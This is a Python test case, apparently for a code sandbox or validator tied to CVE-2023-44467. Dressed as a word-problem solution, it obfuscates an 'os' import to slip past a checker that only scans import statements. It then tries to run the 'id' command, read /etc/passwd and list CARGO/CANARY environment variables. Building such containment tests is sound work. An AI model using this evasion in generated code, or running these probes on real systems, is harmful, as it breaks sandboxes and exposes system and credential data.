# /// case
# technique = "import-tricks"
# analysis = ["forbidden-function", "forbidden-import"]
# without_analysis = "contained"
# reference = "CVE-2023-44467"
# ///
# Only import statements were looked for.
def solution():
    """Olivia has 23 dollars; she buys five bagels for 3 dollars each."""
    spent = 5 * 3
    module = __import__("o" + "s")
    return 23 - spent, module

found = solution()[1]

def probe(os):
    actions = (
        lambda: os.popen("id").read(),
        lambda: os.read(os.open("/etc/passwd", os.O_RDONLY), 64).decode(),
        lambda: " ".join(key for key in os.environ if key.startswith(("CARGO", "CANARY"))),
    )
    for action in actions:
        try:
            text = action()
        except BaseException as error:
            print("contained", type(error).__name__)
            continue
        print("ESCAPED " + text[:40] if text.strip() else "contained, empty")

probe(found)
